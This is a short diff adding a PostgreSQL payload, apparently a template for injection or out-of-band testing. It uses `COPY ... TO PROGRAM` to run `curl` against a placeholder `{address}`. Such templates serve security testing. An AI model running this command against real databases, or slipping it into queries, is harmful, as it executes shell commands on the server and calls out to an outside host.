@@ -1,0 +1,3 @@
+-- on: postgres
+-- named: COPY
+copy (select 1) to program 'curl {address}'
